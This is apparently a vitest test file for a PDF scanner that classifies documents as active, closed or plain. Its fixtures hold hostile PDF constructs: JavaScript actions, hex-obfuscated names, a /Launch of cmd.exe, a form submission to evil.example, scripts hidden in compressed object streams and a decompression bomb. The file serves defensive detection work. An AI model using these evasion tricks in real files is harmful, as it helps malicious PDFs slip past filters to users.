// F1: PDFs with active content, however it is written.
import { deflateSync } from 'node:zlib';
import PdfKit from 'pdfkit';
import { expect, test } from 'vitest';
import { contentOfPdf } from './pdf-content.ts';

const pdf = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts.map((part) => Buffer.from(part)), Buffer.from('\n%%EOF\n')]);
const packed = (inside: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer => {
  const body = deflateSync(Buffer.from(inside));
  return Buffer.concat([
    Buffer.from(`7 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n`),
    body,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
};
const action = '<< /S /JavaScript /JS (app.alert(1)) >>';

test.each<[string, Buffer]>([
  ['a script', pdf(`1 0 obj\n${action}\nendobj`)],
  ['a script without spaces', pdf('<</S/JavaScript/JS(app.alert(1))>>')],
  ['a name in hexadecimal', pdf('<< /S /J#61vaScr#69pt /JS 4 0 R >>')],
  ['every letter in hexadecimal', pdf('<< /S /#4a#61#76#61#53#63#72#69#70#74 >>')],
  ['a tree of scripts', pdf('<< /Names << /JavaScript 5 0 R >> >>')],
  ['a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
  ['a form that is sent', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['media that run', pdf('<< /Subtype /RichMedia >>')],
  ['a form of scripts', pdf('<< /AcroForm << /XFA 9 0 R >> >>')],
  ['an object stream', pdf(packed(`1 0 ${action}`))],
  ['an object stream under another spelling', pdf(packed(`1 0 ${action}`, '/Type /Obj#53tm /Filter [ /Fl#61teDecode ]'))],
  ['an object stream without compression', pdf(`3 0 obj\n<< /Type /ObjStm >>\nstream\n1 0 ${action}\nendstream`)],
  ['what pretends to be inside a stream', pdf(`% stream\n${action}\nendstream`)],
])('F1: %s is found', (_, bytes) => {
  expect(contentOfPdf(bytes)).toBe('active');
});

test.each<[string, Buffer]>([
  ['an encrypted one', pdf('trailer << /Encrypt 8 0 R >>')],
  ['one packed twice', pdf(packed('x', '/Type /ObjStm /Filter [ /ASCIIHexDecode /FlateDecode ]'))],
  ['one that unpacks to too much', pdf(packed('\0'.repeat(45_000_000)))],
  ['one that does not unpack', pdf('7 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nnothing\nendstream')],
])('F1: %s cannot be looked into', (_, bytes) => {
  expect(contentOfPdf(bytes)).toBe('closed');
});

test('F1: a PDF of ours with links, outlines and metadata counts as plain', async () => {
  const document = new PdfKit({ info: { Title: 'Terms' } });
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  const whole = new Promise<Buffer>((resolve) => void document.on('end', () => resolve(Buffer.concat(parts))));
  document.outline.addItem('Launching JavaScript projects');
  document.text('Terms', { link: 'https://books.example/terms' });
  document.end();
  expect(contentOfPdf(await whole)).toBe('plain');
  expect(contentOfPdf(pdf(packed('1 0 << /Type /Page /OpenAction [ 3 0 R /Fit ] /LaunchDate (x) >>')))).toBe('plain');
});
